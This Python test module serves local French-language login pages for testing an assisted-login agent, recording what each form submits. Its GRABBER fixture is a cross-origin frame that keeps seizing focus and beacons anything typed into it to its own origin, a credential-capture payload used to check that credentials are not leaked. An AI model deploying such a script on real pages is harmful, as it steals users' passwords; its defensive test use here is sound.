"""Login pages for the assisted-login tests, served on 127.0.0.1 (standard library only).

Each page posts to /submit/NAME; the server records every submission (the form's fields) so the
test can check exactly what the browser sent. Two servers run: the credential's origin, and
another origin (another port) for the pages that must not be filled.
"""
import http.server
import json
import os
import threading
import time
import urllib.parse

# Pages built with real libraries (tests/data/pages, README.md there): /p/NAME serves NAME.html,
# /lib/... the libraries. {other} in a page is the other origin, {user} on a /next/NAME page the
# username the previous step posted.
FIXTURES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "data", "pages")
TYPES = {".js": "text/javascript", ".html": "text/html; charset=utf-8"}


def fixture(rel):
    """The bytes of a fixture file, or None: never a path outside the folder."""
    path = os.path.normpath(os.path.join(FIXTURES, rel))
    if not path.startswith(os.path.normpath(FIXTURES) + os.sep) or not os.path.isfile(path):
        return None
    with open(path, "rb") as f:
        return f.read()


def escape(v):
    return v.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")

PLAIN = """<!doctype html><title>Connexion</title>
<form method="post" action="/submit/plain">
<label>Identifiant <input name="username" autocomplete="username"></label>
<label>Mot de passe <input type="password" name="password" autocomplete="current-password"></label>
<button type="submit">Se connecter</button></form>"""

SCRIPTED = """<!doctype html><title>Connexion</title><div id="app">Chargement...</div>
<script>
window.addEventListener('load', function () {
  setTimeout(function () {
    document.getElementById('app').innerHTML =
      '<form method="post" action="/submit/scripted">' +
      '<input id="login" name="login" placeholder="Adresse e-mail">' +
      '<input id="pw" name="pw" type="password">' +
      '<input type="submit" value="Valider"></form>';
  }, 1200);
});
</script>"""

TWOSTEP1 = """<!doctype html><title>Etape 1</title>
<form method="post" action="/twostep2">
<label for="u">Identifiant</label><input id="u" name="user" type="email">
<button>Continuer</button></form>"""

TWOSTEP2 = """<!doctype html><title>Etape 2</title>
<form method="post" action="/submit/twostep">
<input type="hidden" name="user" value="{user}">
<p>Bonjour {user}</p>
<label for="p">Mot de passe</label><input id="p" name="pass" type="password">
<button>Se connecter</button></form>"""

# A front-end framework's controlled inputs: the page keeps its own state from input events and
# submits that state, so a value set without events (el.value = ...) is lost.
FRAMEWORK = """<!doctype html><title>Connexion</title>
<div id="root"><form id="f"><input id="email" autocomplete="username">
<input id="secret" type="password" autocomplete="current-password">
<button type="submit">Connexion</button></form></div>
<script>
var state = {email: '', secret: ''};
['email', 'secret'].forEach(function (k) {
  var el = document.getElementById(k);
  el.addEventListener('input', function (e) { state[k] = e.target.value; });
});
document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  var f = document.createElement('form');
  f.method = 'post'; f.action = '/submit/framework';
  ['email', 'secret'].forEach(function (k) {
    var i = document.createElement('input');
    i.type = 'hidden'; i.name = k; i.value = state[k]; f.appendChild(i);
  });
  document.body.appendChild(f);
  HTMLFormElement.prototype.submit.call(f);
});
</script>"""

IFRAME = """<!doctype html><title>Espace personnel</title><h1>Mon espace</h1>
<iframe src="/inner" width="500" height="300"></iframe>"""

INNER = """<!doctype html><form method="post" action="/submit/iframe">
<input name="username" autocomplete="username">
<input name="password" type="password"><button>OK</button></form>"""

TWOFORMS = """<!doctype html><title>Accueil</title>
<form role="search" method="post" action="/submit/search">
<input name="q" placeholder="Rechercher"><button>Rechercher</button></form>
<h2>Se connecter</h2>
<form method="post" action="/submit/twoforms">
<label for="a">Numero de securite sociale</label><input id="a" name="nir">
<label for="b">Code</label><input id="b" name="code" type="password">
<input type="submit" value="Connexion"></form>"""

FOREIGN = """<!doctype html><title>Portail</title>
<iframe src="{other}/outside" width="500" height="300"></iframe>"""

OUTSIDE = """<!doctype html><form method="post" action="/submit/outside">
<input name="username" autocomplete="username">
<input name="password" type="password" autocomplete="current-password">
<button>OK</button></form>"""

# A stubborn site: no autocomplete, names or labels to go by, a contact field and a card code
# before the real fields. The clues take the first text field and the first password field, the
# wrong ones; only the selectors recorded with the credential find the right ones.
STUBBORN = """<!doctype html><title>Espace candidat</title>
<form id="login" method="post" action="/submit/stubborn">
<p>Contact <input name="c1"></p>
<p>Carte <input name="c2" type="password"></p>
<p>Identifiant <input name="c3" data-k="l'identifiant"></p>
<p>Mot de passe <input name="c4" id="mdp-2" type="password"></p>
<button type="submit">Valider</button></form>"""

WELCOME = "<!doctype html><title>Bienvenue</title><p>Bienvenue</p>"

# A login form next to a frame of another origin that keeps taking the focus back and sends
# whatever is typed into it to its own origin (recorded as POSTs to /capture).
GRAB = """<!doctype html><title>Connexion</title>
<form method="post" action="/submit/grab">
<label>Identifiant <input name="username" autocomplete="username"></label>
<label>Mot de passe <input type="password" name="password" autocomplete="current-password"></label>
<button type="submit">Se connecter</button></form>
<iframe src="{other}/grabber" width="300" height="80"></iframe>"""

GRABBER = """<!doctype html><title>Publicite</title>
<label>Recherche <input id="trap" autocomplete="off"></label>
<script>
var trap = document.getElementById('trap');
function send() {
  var value = trap.value;
  if (!navigator.sendBeacon('/capture', value))
    fetch('/capture', {method: 'POST', body: value, keepalive: true});
}
['input', 'keydown', 'change'].forEach(function (t) { trap.addEventListener(t, send); });
setInterval(function () { window.focus(); trap.focus(); }, 5);
</script>"""

# The same frame on the password step of a two-step login.
GRABSTEP1 = """<!doctype html><title>Etape 1</title>
<form method="post" action="/grabstep2">
<label for="u">Identifiant</label><input id="u" name="user" type="email" autocomplete="username">
<button>Continuer</button></form>"""

GRABSTEP2 = """<!doctype html><title>Etape 2</title>
<form method="post" action="/submit/grabstep">
<input type="hidden" name="user" value="{user}">
<p>Bonjour {user}</p>
<label for="p">Mot de passe</label><input id="p" name="pass" type="password"
 autocomplete="current-password">
<button>Se connecter</button></form>
<iframe src="{other}/grabber" width="300" height="80"></iframe>"""

# Records every trusted (real input) click, mousedown, keydown and pointerdown on the page, with
# the password field's length and type at that moment, as POSTs to /log/NAME.
TRUSTED_LOG = """<script>
(function () {
  var pw = document.getElementById('pw');
  document.getElementById('eye').addEventListener('click', function () {
    pw.type = pw.type === 'password' ? 'text' : 'password';
  });
  ['click', 'mousedown', 'keydown', 'pointerdown'].forEach(function (t) {
    document.addEventListener(t, function (e) {
      if (e.isTrusted !== true) return;
      var rec = {type: e.type, len: pw.value.length, ptype: pw.type};
      navigator.sendBeacon('/log/%s', JSON.stringify(rec));
    }, true);
  });
})();
</script>"""

# A big "show password" button over the top-left of the page, first button of the form.
EYE_STYLE = """<style>
html, body { margin: 0; width: 100%; height: 100%; }
body { min-height: 100vh; }
#eye { position: fixed; left: 0; top: 0; width: 200px; height: 200px; font-size: 120px;
       margin: 0; padding: 0; }
#fields { position: absolute; left: 0; top: 220px; padding: 8px; }
</style>"""

TOGGLE = """<!doctype html><title>Connexion</title>""" + EYE_STYLE + """
<form method="post" action="/submit/toggle">
<button type="button" id="eye" aria-label="Afficher le mot de passe">\U0001F441</button>
<div id="fields">
<label>Identifiant <input name="username" autocomplete="username"></label>
<label>Mot de passe <input id="pw" type="password" name="password"
 autocomplete="current-password"></label>
<button type="submit">Se connecter</button></div></form>""" + TRUSTED_LOG % "toggle"

# A failed login: the page posts the fields itself and stays, form and fields still in place.
STAY = """<!doctype html><title>Connexion</title>""" + EYE_STYLE + """
<form id="f" method="post" action="/submit/stay">
<button type="button" id="eye" aria-label="Afficher le mot de passe">\U0001F441</button>
<div id="fields">
<p id="msg" role="alert"></p>
<label>Identifiant <input id="user" name="username" autocomplete="username"></label>
<label>Mot de passe <input id="pw" type="password" name="password"
 autocomplete="current-password"></label>
<button type="submit">Se connecter</button></div></form>
<script>
document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  var body = new URLSearchParams({username: document.getElementById('user').value,
                                  password: document.getElementById('pw').value});
  function refuse() {
    document.getElementById('msg').textContent = 'Identifiant ou mot de passe incorrect';
  }
  fetch('/submit/stay', {method: 'POST',
                         headers: {'Content-Type': 'application/x-www-form-urlencoded'},
                         body: body}).then(refuse, refuse);
});
</script>""" + TRUSTED_LOG % "stay"

# Opens a new window while the password is being typed.
POPUP = """<!doctype html><title>Connexion</title>
<form method="post" action="/submit/popup">
<label>Identifiant <input name="username" autocomplete="username"></label>
<label>Mot de passe <input id="pw" type="password" name="password"
 autocomplete="current-password"></label>
<button type="submit">Se connecter</button></form>
<script>
document.getElementById('pw').addEventListener('input', function () {
  window.open('/plain', '_blank');
});
</script>"""

# A submit button that does nothing and a form that refuses to submit: nothing ever leaves.
DEADEND = """<!doctype html><title>Connexion</title>
<form method="post" action="/submit/deadend" onsubmit="return false">
<label>Identifiant <input name="username" autocomplete="username"></label>
<label>Mot de passe <input type="password" name="password" autocomplete="current-password"></label>
<button type="button" id="go">Se connecter</button></form>
<script>
document.getElementById('go').addEventListener('click', function () {});
</script>"""


# A login form whose page takes SLOW_MS to load (an image the server holds back): the agent
# fills only after the load event, so a login ended before then must never fill or send it.
SLOW_MS = 6000
SLOWLOAD = """<!doctype html><title>Connexion</title>
<form method="post" action="/submit/slowload">
<label>Identifiant <input name="username" autocomplete="username"></label>
<label>Mot de passe <input type="password" name="password" autocomplete="current-password"></label>
<button type="submit">Se connecter</button></form><img src="/slow" alt="">"""

GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00"
       b"\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


# POSTs whose raw body is recorded as is, {"raw": body}: what a page sends on its own.
def raw_path(path):
    return path == "/capture" or path.startswith("/log/")


class Site:
    """One origin: a server on its own port, recording submissions."""

    def __init__(self):
        self.submissions = []
        self.lock = threading.Lock()
        self.other = ""
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def send_page(self, body, status=200, headers=(), ctype=TYPES[".html"]):
                data = body if isinstance(body, bytes) else body.encode()
                self.send_response(status)
                for k, v in headers:
                    self.send_header(k, v)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self):
                site.get(self)

            def do_POST(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n)
                if raw_path(self.path.split("?")[0]):
                    site.post(self, {"raw": body.decode("utf-8", "replace")})
                    return
                if body[:1] == b"{":  # a page's fetch with a JSON body
                    site.post(self, json.loads(body))
                    return
                form = urllib.parse.parse_qs(body.decode(), keep_blank_values=True)
                site.post(self, {k: v[0] for k, v in form.items()})

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.origin = "http://127.0.0.1:%d" % self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def get(self, h):
        pages = {"/plain": PLAIN, "/scripted": SCRIPTED, "/twostep": TWOSTEP1,
                 "/framework": FRAMEWORK, "/iframe": IFRAME, "/inner": INNER,
                 "/twoforms": TWOFORMS, "/foreign": FOREIGN.format(other=self.other),
                 "/outside": OUTSIDE, "/stubborn": STUBBORN,
                 "/grab": GRAB.format(other=self.other), "/grabber": GRABBER,
                 "/grabstep": GRABSTEP1, "/toggle": TOGGLE, "/stay": STAY, "/popup": POPUP,
                 "/deadend": DEADEND, "/slowload": SLOWLOAD}
        path = h.path.split("?")[0]
        if path.startswith("/p/") or path.startswith("/lib/"):
            rel = path[3:] + ".html" if path.startswith("/p/") else "lib/" + path[5:]
            data = fixture(rel)
            if data is None:
                h.send_page("not found", 404)
            else:
                h.send_page(data.replace(b"{other}", self.other.encode()),
                            ctype=TYPES.get(os.path.splitext(rel)[1], "text/plain"))
        elif path == "/slow":
            time.sleep(SLOW_MS / 1000)
            h.send_page(GIF, ctype="image/gif")
        elif path == "/redirect":
            h.send_page("", 302, [("Location", self.other + "/plain")])
        elif path == "/hang":  # a page that never finishes loading
            h.send_response(200)
            h.send_header("Content-Type", "text/html")
            h.end_headers()
            h.wfile.write(b"<!doctype html><p>...")
            h.wfile.flush()
            time.sleep(40)
        elif path in pages:
            h.send_page(pages[path])
        else:
            h.send_page("not found", 404)

    def post(self, h, form):
        if h.path.startswith("/next/"):  # a step posted; the next page shows the username
            with self.lock:
                self.submissions.append((h.path, form))
            data = fixture(h.path[6:] + ".html")
            user = escape(str(form.get("username", ""))).encode()
            h.send_page(data.replace(b"{user}", user) if data else "not found",
                        200 if data else 404)
            return
        if h.path == "/api/check":
            with self.lock:
                self.submissions.append((h.path, form))
            h.send_page('{"ok": true}', ctype="application/json")
            return
        if h.path in ("/twostep2", "/grabstep2"):
            user = form.get("user", "").replace("&", "&amp;").replace('"', "&quot;")
            step2 = TWOSTEP2 if h.path == "/twostep2" else GRABSTEP2
            h.send_page(step2.format(user=user.replace("<", "&lt;"), other=self.other))
            return
        with self.lock:
            self.submissions.append((h.path, form))
        if raw_path(h.path.split("?")[0]):
            h.send_page("", 204)
            return
        h.send_page(WELCOME)

    def taken(self, path):
        """The forms posted to path so far ({"raw": body} for /capture and /log/NAME)."""
        with self.lock:
            return [f for p, f in self.submissions if p == path]

    def all(self):
        with self.lock:
            return list(self.submissions)


def start():
    """The credential's site and another origin, each pointing at the other."""
    a, b = Site(), Site()
    a.other, b.other = b.origin, a.origin
    return a, b
